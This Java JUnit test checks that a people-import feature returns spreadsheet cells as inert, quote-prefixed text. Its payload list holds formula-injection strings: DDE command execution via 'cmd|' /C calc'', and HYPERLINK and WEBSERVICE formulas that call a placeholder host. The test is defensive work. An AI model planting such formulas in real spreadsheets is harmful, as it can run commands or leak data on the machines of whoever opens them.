package io.shoumi.access;

import static org.assertj.core.api.Assertions.assertThat;

import io.shoumi.TestHouse;
import io.shoumi.Visitor;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** What people typed into a sheet comes back as text, whatever it begins with. */
class InertCellsTest {
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"//x.invalid/\"&A1)",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            ";=1+1",
            "=WEBSERVICE(\"http://x.invalid\")",
            "%0A=1+1");

    private final TestHouse house = TestHouse.house();

    @Test
    void aFormulaInAFaultySheetComesBackAsText() throws IOException {
        house.unit("=1+1", house.group());
        var visitor = administrator();
        var page = visitor.get("/people/import");
        var file = new Visitor.Attachment("file", "people.xlsx", "application/octet-stream", filled(visitor));
        visitor.upload(page, "/people/import", Map.of(), file);
        assertThat(visitor.status()).isEqualTo(422);
        assertThat(inert(visitor.bytes("/people/import/faults.xlsx"))).isGreaterThanOrEqualTo(FORMULAS.size());
        assertThat(inert(visitor.bytes("/people/import/template.xlsx"))).isPositive();
    }

    private Visitor administrator() {
        var person = house.stranger("导入员", house.group());
        house.pledge(person);
        house.role(person, "system-admin");
        return person.logIn();
    }

    private static byte[] filled(Visitor visitor) throws IOException {
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(visitor.bytes("/people/import/template.xlsx")));
                var out = new ByteArrayOutputStream()) {
            var sheet = book.getSheetAt(0);
            for (var i = 0; i < FORMULAS.size(); i++) {
                var row = sheet.createRow(i + 1);
                for (var j = 0; j < 4; j++) {
                    row.createCell(j).setCellValue(FORMULAS.get((i + j) % FORMULAS.size()));
                }
            }
            book.write(out);
            return out.toByteArray();
        }
    }

    /** How many cells look like a formula; each is text, and stays so when it is edited. */
    private static int inert(byte[] workbook) throws IOException {
        var found = 0;
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            for (var sheet : book) {
                for (var row : sheet) {
                    for (var cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING
                                && cell.getStringCellValue().strip().matches("(?s)[=+@-].*")) {
                            found++;
                            assertThat(cell.getCellStyle().getQuotePrefixed())
                                    .as(cell.getStringCellValue())
                                    .isTrue();
                        }
                    }
                }
            }
        }
        return found;
    }
}
